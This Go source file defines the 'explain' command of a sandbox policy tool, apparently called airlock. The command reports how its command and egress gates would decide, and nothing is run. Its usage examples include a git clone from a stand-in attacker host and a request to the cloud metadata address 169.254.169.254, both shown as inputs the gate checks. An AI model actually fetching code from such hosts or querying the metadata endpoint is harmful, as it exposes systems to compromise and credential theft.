package main

import (
	"cmp"
	"encoding/json"
	"errors"
	"fmt"
	"io"

	"github.com/spf13/cobra"

	"github.com/airlock-sandbox/airlock/cmdgate"
	"github.com/airlock-sandbox/airlock/decision"
	"github.com/airlock-sandbox/airlock/enforcer"
	"github.com/airlock-sandbox/airlock/internal/policyflag"
	"github.com/airlock-sandbox/airlock/internal/termtext"
	"github.com/airlock-sandbox/airlock/policy"
)

func newExplainCmd() *cobra.Command {
	var (
		tool, task, host string
		cwd              string
		rawURL, method   string
		headers          []string
		asJSON, resolve  bool
	)
	cmd := &cobra.Command{
		Use:   "explain (--tool T [--cwd DIR] -- CMD [ARG...] | --task K --host HOST[:PORT] | --task K --url URL [--method M])",
		Short: "Show what a gate would decide, and why; nothing is run",
		Long: `explain prints the decision of the command gate for a tool running a command,
or of the egress gate for a task reaching a host. With --url, the request too:
on an inspected host, the rule that allows or refuses the method and path
(--method, default GET; --header NAME:VALUE for header conditions), and the
credential the proxy would add. Nothing is run or dialled (--resolve looks
the name up in DNS, as the proxy would, and decides on every address).

Exit status 0 whenever a decision was printed, whatever it was.`,
		Example: `  airlock explain --tool run_tests -- pytest -v
  airlock explain --tool run_tests --json -- git clone https://attacker.example/repo
  airlock explain --task web_search --host 169.254.169.254
  airlock explain --task gh --url https://api.github.com/repos/acme/x/pulls --method POST`,
		Args: func(cmd *cobra.Command, args []string) error {
			switch {
			case tool != "" && task != "":
				return usageError{errors.New("explain: give --tool or --task, not both")}
			case tool != "" && len(args) == 0:
				return usageError{errors.New("explain: --tool needs a command after --")}
			case tool != "" && cmd.ArgsLenAtDash() != 0:
				return usageError{errors.New("explain: put the command after --, e.g. airlock explain --tool run_tests -- pytest -v")}
			case task != "" && ((host == "") == (rawURL == "") || len(args) > 0):
				return usageError{errors.New("explain: --task needs --host HOST[:PORT] or --url URL, one of them, and no command")}
			case (method != "" || len(headers) > 0) && rawURL == "":
				return usageError{errors.New("explain: --method and --header go with --url")}
			case rawURL != "" && resolve:
				return usageError{errors.New("explain: --resolve goes with --host")}
			case tool == "" && task == "":
				return usageError{errors.New("explain: give --tool T -- CMD [ARG...] or --task K --host HOST[:PORT]")}
			case tool != "" && (host != "" || resolve):
				return usageError{errors.New("explain: --host and --resolve go with --task")}
			case cwd != "" && tool == "":
				return usageError{errors.New("explain: --cwd goes with --tool")}
			}
			return nil
		},
		RunE: func(cmd *cobra.Command, args []string) error {
			pol, err := loadPolicy(cmd)
			if err != nil {
				return err
			}
			warnTask(cmd, pol.Policy, task)
			out := cmd.OutOrStdout()
			switch {
			case rawURL != "":
				return explainRequest(out, pol, task, rawURL, method, headers, asJSON)
			case task != "":
				return explainEgress(cmd.Context(), out, pol, task, host, resolve, asJSON)
			}
			dir := enforcer.StepDir(cwd)
			d := cmdgate.Compile(pol.Policy).Decide(tool, args[0], args[1:], dir)
			name := args[0]
			p, tree := cmdgate.Program(name, dir)
			if tree != "" {
				return printCommandDecision(out, commandExplanation{Decision: d, Policy: pol.Info()}, "", errWorkspaceProgram{p, tree}, asJSON)
			}
			if p != "" {
				name = p
			}
			resolved, rerr := cmdgate.Resolve("", name, pol.SearchPath())
			return printCommandDecision(out, commandExplanation{Decision: d, Policy: pol.Info()}, resolved, rerr, asJSON)
		},
	}
	cmd.Flags().StringVar(&tool, "tool", "", "tool whose scope decides the command")
	cmd.Flags().StringVar(&cwd, "cwd", "", "working directory inside, relative to /workspace, as run's (with --tool)")
	cmd.Flags().StringVar(&task, "task", "", "task whose allowlist decides the host")
	cmd.Flags().StringVar(&host, "host", "", "destination HOST[:PORT] (with --task)")
	cmd.Flags().BoolVar(&resolve, "resolve", false, "resolve the name and decide on every address, as the proxy does")
	cmd.Flags().StringVar(&rawURL, "url", "", "request URL (with --task): the host's decision, then the request's")
	cmd.Flags().StringVar(&method, "method", "", "the request's method (with --url; default GET)")
	cmd.Flags().StringArrayVar(&headers, "header", nil, "a request header NAME:VALUE (with --url; repeatable)")
	cmd.Flags().BoolVar(&asJSON, "json", false, `print one JSON object {"gate","decision","reason","rule",...,"policy"}`)
	policyflag.Add(cmd)
	return cmd
}

// commandExplanation is explain's JSON output for the command gate.
type commandExplanation struct {
	decision.Decision
	// Resolved is the absolute path airlock would execute, or null when
	// the command is not installed.
	Resolved *string `json:"resolved"`
	// Policy is the policy that decided.
	Policy policy.Info `json:"policy"`
}

func (c commandExplanation) MarshalJSON() ([]byte, error) {
	return json.Marshal(struct {
		Gate     decision.Gate    `json:"gate"`
		Verdict  decision.Verdict `json:"decision"`
		Reason   string           `json:"reason"`
		Rule     string           `json:"rule"`
		Script   *decision.Script `json:"script,omitempty"`
		Resolved *string          `json:"resolved"`
		Policy   policy.Info      `json:"policy"`
	}{c.Gate, c.Verdict, c.Why(), c.Rule, c.Script, c.Resolved, c.Policy})
}

// errWorkspaceProgram says a command is a workspace program, which only
// the sandbox's init resolves, inside.
type errWorkspaceProgram struct{ path, tree string }

func (e errWorkspaceProgram) Error() string {
	return fmt.Sprintf("%s is a workspace program: the sandbox resolves it in %s as it runs it", e.path, e.tree)
}

func printCommandDecision(w io.Writer, ex commandExplanation, resolved string, rerr error, asJSON bool) error {
	d := ex.Decision
	if asJSON {
		if rerr == nil {
			ex.Resolved = &resolved
		}
		return termtext.WriteJSON(w, ex, "")
	}
	where := resolved
	var wp errWorkspaceProgram
	switch {
	case errors.As(rerr, &wp):
		where = wp.Error()
	case errors.Is(rerr, cmdgate.ErrNotInstalled):
		where = "not installed on this host (" + rerr.Error() + ")"
	case rerr != nil:
		where = "not executable on this host (" + rerr.Error() + ")"
	}
	if _, err := fmt.Fprintf(w, "gate:      %s\ndecision:  %s\nreason:    %s\nrule:      %s\nresolves:  %s\n",
		d.Gate, d.Verdict, d.Why(), cmp.Or(d.Rule, "(none)"), where); err != nil || d.Script == nil {
		return err
	}
	fmt.Fprintf(w, "script:    %s, %d commands\n", d.Script.Shell, len(d.Script.Commands))
	for _, c := range d.Script.Commands {
		if _, err := fmt.Fprintf(w, "  %s %s %s: %s\n", c.Pos, c.Verdict, cmp.Or(c.Rule, "-"), termtext.Argv(append([]string{c.Command}, c.Args...))); err != nil {
			return err
		}
	}
	return nil
}
